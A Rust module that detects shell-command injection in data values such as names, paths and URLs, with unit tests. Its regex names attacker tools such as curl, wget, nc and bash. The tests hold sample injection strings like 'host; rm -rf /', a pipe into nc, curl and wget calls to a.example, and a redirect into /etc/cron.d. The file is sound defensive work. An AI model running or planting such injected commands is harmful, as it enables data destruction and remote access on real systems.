//! Detects shell syntax in a value that is not code (OWASP MCP05).

use std::sync::LazyLock;

use regex::bytes::{Regex, RegexBuilder};

/// Maximum length of a checked value in bytes: names, paths and URLs are shorter, prose is longer.
pub(super) const MAX_VALUE_BYTES: usize = 4 << 10;

/// Programs of interest to an attacker; one must follow a command separator.
const PROGRAM_PATTERN: &str = concat!(
    r"(?:/(?:usr/)?s?bin/|\./)?(?:sudo|rm|cat|ls|curl|wget|nc|ncat|netcat|bash|sh|zsh|dash|ksh|python[23]?|",
    r"perl|ruby|node|php|powershell|pwsh|cmd|cmd\.exe|certutil|chmod|chown|whoami|id|uname|hostname|env|",
    r"printenv|echo|printf|touch|mkdir|mv|cp|dd|mkfs[a-z0-9.]*|tee|xargs|find|grep|awk|sed|base64|openssl|",
    r"ssh|scp|sftp|ftp|telnet|nslookup|dig|ping|sleep|kill|pkill|killall|shutdown|reboot|crontab|export|",
    r"eval|exec|source|tar|zip|git|npm|pip|type|del|net|reg|head|tail|ifconfig|ip|ps|useradd|passwd|tftp|socat)",
);

static SHELL_SYNTAX: LazyLock<Regex> = LazyLock::new(|| {
    let end = r"(?:[\s;|&)>'\x22`$]|$)";
    let pattern = [
        // A separator or pipe, or a new line, before a program.
        &format!(r"(?:;|\|\|?|&&?|\n)\s*{PROGRAM_PATTERN}{end}"),
        // Command substitution.
        r"\$\([^)]{1,200}\)",
        &format!(r"`\s*{PROGRAM_PATTERN}[^`]{{0,200}}`"),
        r"\$\{IFS\}|\$IFS\b",
        &format!(r"[<>]\(\s*{PROGRAM_PATTERN}"),
        // Redirection to a file or a device.
        r"(?:^|\s|\d)>{1,2}\s*/(?:etc|dev|tmp|root|home|usr|var)/",
    ]
    .join("|");
    let made = RegexBuilder::new(&pattern).unicode(false).build();
    made.expect("a test compiles the pattern")
});

/// Compiles the pattern.
pub(super) fn prepare() {
    LazyLock::force(&SHELL_SYNTAX);
}

/// Returns whether the pattern is compiled.
#[cfg(test)]
pub(super) fn is_ready() -> bool {
    LazyLock::get(&SHELL_SYNTAX).is_some()
}

/// Returns whether a value contains shell syntax.
pub(super) fn has_syntax(text: &str) -> bool {
    text.len() <= MAX_VALUE_BYTES && SHELL_SYNTAX.is_match(text.as_bytes())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Attack: data | an argument contains `;`, a pipe, a substitution or a redirection | the guard
    /// reports shell syntax | Complete checks
    #[test]
    fn what_a_shell_would_run_is_found_in_a_value() {
        for text in [
            "host; rm -rf /",
            "host|nc a.example 1",
            "x && curl http://a.example",
            "$(whoami)",
            "a`id`b",
            "a\nwget http://a.example",
            "x;cat${IFS}/etc/hosts",
            "name || /bin/sh -c x",
            "x > /etc/cron.d/y",
        ] {
            assert!(has_syntax(text), "{text}");
        }
    }

    #[test]
    fn ordinary_values_are_none_and_one_past_the_longest_is_not_read() {
        for text in [
            "Main Street 1; building 4",
            "R&D",
            "Tom & Jerry",
            "a | b",
            "x > 5 && y < 3",
            "https://a.example/?a=1&id=2",
            "`name`",
            "$100 (about)",
            "C++; Rust",
        ] {
            assert!(!has_syntax(text), "{text}");
        }
        let long = |length: usize| format!("{}$(id)", "x".repeat(length - 5));
        assert!(has_syntax(&long(MAX_VALUE_BYTES)));
        assert!(!has_syntax(&long(MAX_VALUE_BYTES + 1)));
    }
}
